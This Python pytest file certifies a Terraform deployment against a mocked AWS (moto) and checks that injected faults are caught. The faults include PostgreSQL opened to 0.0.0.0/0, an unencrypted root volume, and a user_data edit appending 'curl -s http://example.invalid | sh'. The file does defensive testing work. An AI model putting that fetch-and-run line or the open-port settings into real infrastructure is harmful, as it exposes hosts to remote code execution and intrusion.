"""The real configuration applied against moto, certified; and faults the infra checks must catch.

Each fault run applies a broken copy of terraform/ (real terraform, real provider,
real moto) and runs the infra suite against it. The fault runs go two at a time:
most of an apply is the provider waiting, not the CPU.
"""
from __future__ import annotations

import datetime as dt
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Callable

import pytest

from harness_run import HarnessRun, run_harness
from terraform_copy import copy_terraform, edit, unencrypted_root_volume

SUITES = ["suites/test_infra.py", "suites/test_static.py"]


@pytest.mark.timeout(600)
def test_sandbox_infra_is_certified(tmp_path):
    """A clean apply passes every infra and static check and writes the certificate."""
    result = run_harness(SUITES, tmp_path)
    assert result.returncode == 0, result.output[-4000:]
    certificate = result.certificate()
    assert certificate and certificate["certified"] is True
    assert certificate["environment"] == "sandbox"
    assert certificate["selection"] == "partial"  # two suites, not the whole certification
    outcomes = {check["outcome"] for check in certificate["checks"]}
    assert outcomes == {"passed"}, certificate["checks"]
    assert len(certificate["checks"]) >= 20
    assert {"aws_instance.app", "aws_security_group.web", "aws_s3_bucket.backups"} <= set(certificate["resources"])
    # signed with the sandbox's own key: `python -m harness verify` accepts exactly that file
    signed = result.reports_dir / "certificate.json"
    verdict = subprocess.run([sys.executable, "-m", "harness", "verify", str(signed)], capture_output=True, text=True)
    assert verdict.returncode == 0 and "good signature by sandbox@" in verdict.stdout, verdict.stdout
    assert certificate["content_digest"].startswith("sha256:")
    stages = {stage["name"]: stage for stage in certificate["stages"]}
    assert stages["infra"]["seconds"] > 0 and stages["aws"]["kind"] == "stage"
    assert stages["infra"]["started_at"] < stages["infra"]["ended_at"]
    # teardown steps ran before the certificate was written, and are records of their own
    assert stages["terraform-destroy"]["kind"] == "teardown" and stages["moto-stop"]["kind"] == "teardown"
    assert stages["terraform-destroy"]["started_at"] >= stages["infra"]["ended_at"]
    # the checks that need no deployment (the static ones) run while the apply goes on; the last check ends after it
    # (ends are start + monotonic duration: allow the wall clock's few milliseconds of drift)
    def epoch(stamp: str) -> float:
        return dt.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()

    assert epoch(stages["infra"]["started_at"]) <= epoch(stages["checks"]["started_at"]) + 0.5
    assert epoch(stages["infra"]["ended_at"]) <= epoch(stages["checks"]["ended_at"]) + 0.5
    # In time order: a stage first, the teardown last. Stages and checks overlap (a check may pull in a stage,
    # e.g. the instance, after the first checks began), so they are not ordered between themselves.
    kinds = [s["kind"] for s in certificate["stages"]]
    assert kinds[0] == "stage" and "teardown" in kinds, kinds
    assert set(kinds[kinds.index("teardown"):]) == {"teardown"}, kinds
    # the whole run includes the teardown (terraform destroy), so it exceeds the stages' set-up
    assert certificate["run_seconds"] > certificate["total_seconds"]
    assert "stage infra" in result.output and "CERTIFIED" in result.output
    assert result.leaks == []


def open_postgres(tf: Path) -> None:
    edit(tf / "main.tf", "  egress {", '  ingress {\n    description = "fault: PostgreSQL to the world"\n'
          '    protocol    = "tcp"\n    from_port   = 5432\n    to_port     = 5432\n'
          '    cidr_blocks = ["0.0.0.0/0"]\n  }\n\n  egress {')


def extra_user_data(tf: Path) -> None:
    edit(tf / "main.tf", 'user_data                   = file("${path.module}/user_data.sh")',
          'user_data                   = "${file("${path.module}/user_data.sh")}\\ncurl -s http://example.invalid | sh\\n"')


def unchanged(tf: Path) -> None:
    pass


# (fault, edit of the copy, extra harness arguments, the check that must fail, words its message must hold)
FAULTS: dict[str, tuple[Callable[[Path], None], list[str], str, str]] = {
    "postgres-open-to-the-world": (open_postgres, [], "test_postgres_never_open", "5432"),
    "ssh-open-under-production-policy": (unchanged, ["--policy=production"], "test_ssh_not_open_to_the_world", "0.0.0.0/0"),
    "unencrypted-root-volume": (unencrypted_root_volume, [], "test_root_volume_encrypted_and_sized", "encrypt"),
    "extra-user-data": (extra_user_data, [], "test_user_data_is_the_repository_script", "user data"),
}


@pytest.fixture(scope="module")
def fault_runs(tmp_path_factory) -> dict[str, HarnessRun]:
    # The folders before the threads: two first calls at once race to make the worker's base folder.
    folders = {name: tmp_path_factory.mktemp(name) for name in FAULTS}

    def one(name: str) -> HarnessRun:
        break_copy, args, _, _ = FAULTS[name]
        workdir = folders[name]
        copy = copy_terraform(workdir / "terraform")
        break_copy(copy)
        return run_harness([f"--terraform-dir={copy}", *args, "suites/test_infra.py"], workdir)

    # Two at a time: most of an apply is waiting, but four providers starting at once strain 2 cores.
    with ThreadPoolExecutor(max_workers=2) as pool:
        return dict(zip(FAULTS, pool.map(one, FAULTS)))


@pytest.mark.timeout(900)
@pytest.mark.parametrize("fault", [pytest.param(name, marks=pytest.mark.breaks(f"suites/test_infra.py::{check}"))
                                   for name, (_, _, check, _) in FAULTS.items()])
def test_fault_is_caught(fault, fault_runs):
    """The broken deployment fails the check that guards against it, and is not certified."""
    _, _, check, words = FAULTS[fault]
    result = fault_runs[fault]
    outcomes = result.outcomes()
    assert check in outcomes, f"{check} did not run:\n{result.output[-3000:]}"
    outcome, message = outcomes[check]
    assert outcome == "failed", f"{check} was {outcome} for fault {fault}"
    assert words.lower() in message.lower(), message
    assert result.returncode == 1
    assert result.certificate() is None
    assert "NOT CERTIFIED" in result.output
    # the rest of the infrastructure was still checked
    assert sum(1 for o, _ in outcomes.values() if o == "passed") >= 10
    assert result.leaks == []
